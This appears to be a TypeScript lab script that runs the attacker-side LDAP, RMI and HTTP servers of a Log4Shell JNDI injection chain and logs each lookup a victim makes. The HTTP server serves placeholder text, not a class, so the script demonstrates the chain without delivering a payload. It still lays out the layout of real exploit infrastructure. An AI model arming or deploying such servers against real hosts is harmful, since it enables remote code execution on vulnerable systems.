// A stranger's machine: it answers the naming services that Log4Shell makes a victim ask, and serves the class. Each
// line that it prints is a step of an attack that worked so far.
import { once } from "node:events";
import { createServer } from "node:http";
import { ldapServer } from "../log4shell/ldap-server.ts";
import { rmiServer } from "../log4shell/rmi-server.ts";
import { readSettings } from "./settings.ts";

const { listen } = readSettings("listen");
const reference = { codebase: `http://${listen}:8888/`, factory: "Payload" };

const web = createServer((request, response) => {
  console.log(`HTTP: ${request.socket.remoteAddress ?? ""} fetched ${request.url ?? ""}`);
  response.setHeader("connection", "close");
  response.end("a harmless text in the place of a class\n");
});
const ldap = ldapServer(reference, (name) => console.log(`LDAP: asked for ${name}`));
const rmi = rmiServer(reference, (name) => console.log(`RMI: asked for ${name}`));

await Promise.all([
  once(web.listen(8888, listen), "listening"),
  once(ldap.listen(1389, listen), "listening"),
  once(rmi.listen(1099, listen), "listening"),
]);
console.log(`attacker on ${listen}: LDAP 1389, RMI 1099, HTTP 8888`);
